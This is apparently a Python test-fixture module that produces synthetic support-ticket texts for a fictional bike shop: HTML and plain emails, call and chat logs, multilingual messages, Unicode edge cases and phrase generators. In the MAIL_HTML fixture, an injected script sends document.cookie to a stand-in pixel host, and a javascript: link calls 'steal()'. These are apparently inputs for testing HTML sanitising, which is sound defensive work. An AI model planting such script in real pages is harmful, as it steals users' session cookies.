"""The longer texts: HTML mails as mail programs write them, and the phrases of ordinary tickets."""

from .company import SEED, pick

MAIL_TEXT = """Hello,

my new Fjell 3 arrived today but the front brake makes a noise like a goose.
I tried what the manual says on page 14 & page 15, it did not help.

Is that covered by the warranty?

Best regards
Anna Kvist"""

# Quoted history, a signature block, a tracking pixel and a script: what mail programs really send.
MAIL_HTML = (
    '<div class="zd-comment" dir="auto"><div dir="ltr">Hello,<br><br>my new <b>Fjell 3</b> arrived today '
    "but the front brake makes a noise like a goose.<br>I tried what the manual says on page 14 &amp; "
    "page 15, it did not help.<br><br>Is that covered by the warranty?<br></div><br>"
    '<div class="gmail_signature" dir="ltr"><table border="0"><tr>'
    '<td><img src="https://cdn.fjordmail.test/logo.png" width="120" alt="Fjordmail"></td>'
    '<td>Best regards<br>Anna Kvist<br><a href="https://fjordmail.test/anna" rel="noreferrer">'
    "fjordmail.test/anna</a></td></tr></table></div>"
    '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 3 Mar 2026 at 09:15, Halden Bikes '
    '&lt;<a href="mailto:support@haldenbikes.test">support@haldenbikes.test</a>&gt; wrote:<br></div>'
    '<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid">'
    "<p>Your order HB-104417 is on its way.</p>"
    '<script>document.location="https://pixel.fjordmail.test/?c="+document.cookie</script></blockquote></div>'
    '<img src="https://pixel.fjordmail.test/open.gif?u=7781" width="1" height="1" style="display:none">'
    '<a href="javascript:alert(1)" onclick="steal()">unsubscribe</a></div>'
)

VOICEMAIL_TEXT = """Inbound call from +47 22 55 01 99

Call from: +47 22 55 01 99
Time of call: May 12, 2026 at 8:14:22 AM
Location: Halden, Norway
Length of phone call: 41 seconds
Listen to the recording: https://haldenbikes.zendesk.com/api/v2/channels/voice/calls/CA0042/voicemails/RE0042"""

# The backslashes are part of the text: Zendesk's telephone wrote them into descriptions.
CALL_TEXT = (
    r"Inbound call to +47 22 55 01 00\n\nCall from: +47 22 55 01 99\nAnswered by: Maryam Haddad\n"
    r"Length of phone call: 6 minutes"
)

CHAT_TEXT = """Chat started: 2026-06-02 10:51 AM UTC

(10:51:40 AM) Siobhán: hi, can I change the pick-up place of booking 5581?
(10:52:03 AM) Jonas Lie: Hello Siobhán, of course. Where to?
(10:52:47 AM) Siobhán: Bergen harbour, thanks <3
(10:53:10 AM) Jonas Lie: Done & confirmed.
Uploaded: route.gpx"""

MESSAGING_TEXT = """Conversation with Web User 1234

URL: https://shop.haldenbikes.test/fjell-3

(07:12:09 PM) Web User 1234: is the fjell 3 back in stock?
(07:12:30 PM) Halden helper: Let me find somebody for you.
(07:15:02 PM) Jonas Lie: Hi! Yes, from Monday on.
(07:15:20 PM) Web User 1234: 👍"""

ARABIC_TEXT = """السلام عليكم،

وصلت الدراجة لكن البطارية (الطراز HB-500) لا تشحن أكثر من 80%.
هل يمكنكم إرسال بديل؟ رقم الطلب HB-208814.

مع الشكر،
يوسف"""

HEBREW_TEXT = """שלום,

הזמנתי כיסוי גשם (RainCover 2) ב-12/03 ועדיין לא קיבלתי אותו.
מתי הוא יגיע? תודה, נועה"""

CHINESE_TEXT = """您好，

我们收到了三辆“Fjell 3”，其中一辆的链条有问题（型号：HB‑CH‑11）。
请问可以更换吗？谢谢！

王伟　山路自転車株式会社"""

# U+2028 and U+0085 are line ends for some languages' readers, and plain characters in JSON.
SEPARATORS_TEXT = (
    "First line\u2028second line after U+2028\u2029third after U+2029\u0085fourth after U+0085.\n\n"
    "Combining: Zoe\u0308 A\u030akerlund, n\u0303, q\u0307\u0323. Zero width: hal\u200bden. "
    "No-break: 12\u00a0kg. Soft hyphen: fahr\u00adrad. BOM inside: \ufeffok."
)

EMOJI_TEXT = (
    "Best. Bike. Ever. 🚲💨 My whole family 👨‍👩‍👧‍👦 loves it, also in Norway 🇳🇴, thumbs up 👍🏽 (●ↀ ω ↀ )"
)

REDACTED_TEXT = "Please charge the card ▇▇▇▇ ▇▇▇▇ ▇▇▇▇ ▇▇▇▇ and send the receipt to my new address."

_OPENINGS = (
    "my {thing} squeaks since the last ride.",
    "I would like to change the delivery address of my order.",
    "the {thing} I ordered has not arrived yet.",
    "could you tell me which {thing} fits the Fjell 2?",
    "the invoice for my {thing} shows the wrong amount.",
    "I want to return the {thing}, it is the wrong size.",
)
_THINGS = ("saddle", "chain", "front light", "battery", "rain cover", "pedal set", "child seat")
_ANSWERS = (
    "thank you for writing. I have asked the workshop and will come back to you tomorrow.",
    "sorry for the trouble. A new one leaves our store today.",
    "that is easily done: the change is in your account now.",
    "could you send us a photo of the part? Then we know which version you have.",
)
_THANKS = ("Thanks, that worked!", "Great, I will wait for it.", "Perfect.\n\nHave a nice day!", "ok thx")
_NOTES = (
    "Checked with the supplier, second case this month.",
    "Customer was friendly on the phone, give him the discount.",
    "Do not offer a refund before Billing has looked at it.",
)


def opening_of(name: str) -> str:
    """What an ordinary customer writes first."""
    return "Hello,\n\n" + pick(f"{name}/opening", _OPENINGS).format(thing=thing_of(name)) + "\n\nRegards"


def thing_of(name: str) -> str:
    """What an ordinary ticket is about."""
    return pick(f"{name}/thing", _THINGS)


def answer_of(name: str) -> str:
    """What an agent answers."""
    return "Hi,\n\n" + pick(f"{name}/answer", _ANSWERS)


def thanks_of(name: str) -> str:
    """What the customer says in the end."""
    return pick(f"{name}/thanks", _THANKS)


def note_of(name: str) -> str:
    """What agents tell each other."""
    return pick(f"{name}/note", _NOTES)


def very_long_text() -> str:
    """About 20 kB: the log of a bicycle computer, pasted into a mail."""
    lines = [
        f"{place:04d}  {6 + place // 60:02d}:{place % 60:02d}  speed {12 + place * 7 % 23} km/h"
        f"  battery {99 - place // 5} %  code {SEED}-{place * 31 % 997}"
        for place in range(300)
    ]
    return "Here is the complete log of the display:\n\n" + "\n".join(lines) + "\n\nCan you see the fault?"
